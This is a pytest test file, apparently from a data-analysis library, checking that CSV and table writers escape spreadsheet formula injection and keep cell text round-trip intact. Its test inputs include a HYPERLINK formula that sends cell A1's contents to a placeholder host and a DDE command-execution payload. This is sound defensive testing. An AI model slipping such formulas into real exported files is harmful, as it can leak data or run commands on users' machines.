"""Tables on disk: what a spreadsheet would run as a formula is only text, and comes back as it was."""

import csv

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from biasflow.base.tabular import as_written, read_text_csv, without_formulas, write_csv
from biasflow.results.scores import KEYS, read_scores, tidy, write_scores
from biasflow.results.tables import write_table

LINK = '=HYPERLINK("http://example.invalid/?"&A1,"nurse")'
FORMULAS = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "'=1", "''@x"]
MAY_BEGIN_A_FORMULA = ("=", "+", "-", "@", "\t", "\r")


def first_cells(path):
    with open(path, newline="", encoding="utf-8") as stream:
        return [row[0] for row in csv.reader(stream)]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_of_somebodys_file_stands_as_text_in_every_csv(tmp_path, text):
    frame = pd.DataFrame({text: [text], "n": [-1.5]})
    write_csv(frame, tmp_path / "data.csv")
    write_table(frame, *(tmp_path / f"table.{kind}" for kind in ("csv", "tex", "html")), caption="A table.")
    for name in ("data.csv", "table.csv"):
        for cell in first_cells(tmp_path / name):
            assert cell == f"'{text}"
    assert "-1.5" in (tmp_path / "data.csv").read_text().splitlines()[-1]
    table = read_text_csv(tmp_path / "data.csv")
    assert table[text].tolist() == [text]
    scores = tidy(pd.DataFrame({"metric": ["tpr"], "part": [text], "value": [-0.5]}), **{KEYS[0]: "mine"})
    write_scores(scores, tmp_path / "scores.csv")
    assert read_scores(tmp_path / "scores.csv")["part"].tolist() == [text]
    with open(tmp_path / "scores.csv", newline="", encoding="utf-8") as stream:
        (row,) = csv.DictReader(stream)
    assert row["part"] == f"'{text}" and row["value"] == "-0.5"


def test_a_carriage_return_ends_no_row(tmp_path):
    write_csv(pd.DataFrame({"x": ["\r=1", "a\rb", "a\r\nb"]}), tmp_path / "a.csv")
    assert read_text_csv(tmp_path / "a.csv")["x"].tolist() == [" =1", "a b", "a\nb"]


@given(st.lists(st.text("=+-@\t'1a.e ", max_size=6), min_size=1))
def test_what_is_read_is_what_was_written(texts):
    frame = pd.DataFrame({"x": texts, "n": range(len(texts)), "absent": None})
    safe = without_formulas(frame)
    pd.testing.assert_frame_equal(as_written(safe), frame)
    for cell in safe["x"]:
        if len(cell) > 1 and cell.startswith(MAY_BEGIN_A_FORMULA):
            float(cell)  # nothing but numbers begins so
